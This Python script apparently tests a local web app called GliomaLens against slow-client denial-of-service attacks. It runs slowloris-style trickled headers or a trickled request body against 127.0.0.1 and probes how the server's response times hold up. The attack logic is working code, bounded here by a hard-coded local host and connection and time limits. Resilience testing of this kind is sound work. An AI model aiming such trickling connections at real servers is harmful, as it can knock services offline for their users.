"""Slow-client attack on a local GliomaLens, bounded: at most 12 connections, 60 s, 127.0.0.1 only.

Each slow connection sends a request one byte per second and never finishes it: with
``--mode headers`` the request line and headers trickle in (slowloris); with ``--mode body`` the
headers arrive at once, announcing a 10 MB body that then trickles in. Meanwhile a probe asks
for ``--probe`` once a second (5 s timeout) on a fresh connection and records whether and how
fast the server answered. Prints the probe results during the attack and a summary line.

Usage: python scripts/slow_clients.py --port 8000 [--connections 10] [--seconds 40]
       [--mode headers|body] [--probe /login]
"""

from __future__ import annotations

import argparse
import socket
import statistics
import sys
import threading
import time

HOST = "127.0.0.1"
MAX_CONNECTIONS = 12
MAX_SECONDS = 60
PROBE_TIMEOUT = 5.0


def slow_request(mode: str, port: int) -> bytes:
    """Return the bytes one slow connection will send (never a complete request)."""
    if mode == "headers":
        return (
            f"GET /login HTTP/1.1\r\nHost: {HOST}:{port}\r\nUser-Agent: slow-client\r\n"
            + "X-Padding: "
            + "a" * 200
        ).encode()
    return (
        f"POST /login HTTP/1.1\r\nHost: {HOST}:{port}\r\nUser-Agent: slow-client\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000000\r\n\r\n"
        + "email="
        + "a" * 300
    ).encode()


def trickle(port: int, payload: bytes, stop: threading.Event, closed: list[float]) -> None:
    """Send ``payload`` one byte per second until ``stop``; record when the server hung up."""
    start = time.monotonic()
    try:
        with socket.create_connection((HOST, port), timeout=10) as sock:
            if payload.startswith(b"POST"):
                head, _, body = payload.partition(b"\r\n\r\n")
                sock.sendall(head + b"\r\n\r\n")
                payload = body
            for byte in payload:
                if stop.wait(1.0):
                    return
                sock.sendall(bytes([byte]))
    except OSError:
        closed.append(time.monotonic() - start)


def probe(port: int, path: str) -> float | None:
    """Return seconds until the first response line to GET ``path``, or None after 5 s."""
    start = time.monotonic()
    try:
        with socket.create_connection((HOST, port), timeout=PROBE_TIMEOUT) as sock:
            sock.sendall(
                f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n".encode()
            )
            first = sock.recv(64)
    except OSError:
        return None
    return time.monotonic() - start if first.startswith(b"HTTP/") else None


def main() -> int:
    """Run the bounded attack and the probe; print the summary; return 0."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=8000)
    parser.add_argument("--connections", type=int, default=10)
    parser.add_argument("--seconds", type=int, default=40)
    parser.add_argument("--mode", choices=("headers", "body"), default="headers")
    parser.add_argument("--probe", default="/login")
    args = parser.parse_args()
    if not 1 <= args.connections <= MAX_CONNECTIONS or not 5 <= args.seconds <= MAX_SECONDS:
        parser.error(f"connections must be 1..{MAX_CONNECTIONS} and seconds 5..{MAX_SECONDS}")
    baseline = probe(args.port, args.probe)
    if baseline is None:
        print(f"the server on {HOST}:{args.port} does not answer {args.probe}; start it first")
        return 1
    print(f"before the attack: {args.probe} answered in {baseline * 1000:.0f} ms")
    stop = threading.Event()
    closed: list[float] = []
    payload = slow_request(args.mode, args.port)
    threads = [
        threading.Thread(target=trickle, args=(args.port, payload, stop, closed), daemon=True)
        for _ in range(args.connections)
    ]
    for thread in threads:
        thread.start()
    time.sleep(2)  # let the slow connections be accepted and start trickling
    results: list[float | None] = []
    t0 = time.monotonic()
    deadline = t0 + args.seconds - 2
    while time.monotonic() < deadline:
        began = time.monotonic()
        latency = probe(args.port, args.probe)
        results.append(latency)
        shown = "no answer within 5 s" if latency is None else f"{latency * 1000:.0f} ms"
        print(f"t={began - t0:5.1f} s  probe: {shown}", flush=True)
        time.sleep(max(0.0, 1.0 - (time.monotonic() - began)))
    stop.set()
    for thread in threads:
        thread.join(timeout=2)
    answered = [r for r in results if r is not None]
    p50 = statistics.median(answered) * 1000 if answered else float("nan")
    worst = max(answered) * 1000 if answered else float("nan")
    print(
        f"SUMMARY mode={args.mode} connections={args.connections} seconds={args.seconds}: "
        f"{len(answered)}/{len(results)} probes answered, median {p50:.0f} ms, "
        f"slowest {worst:.0f} ms; server closed {len(closed)} slow connections "
        f"(after {', '.join(f'{c:.0f}' for c in sorted(closed)) or '-'} s)"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
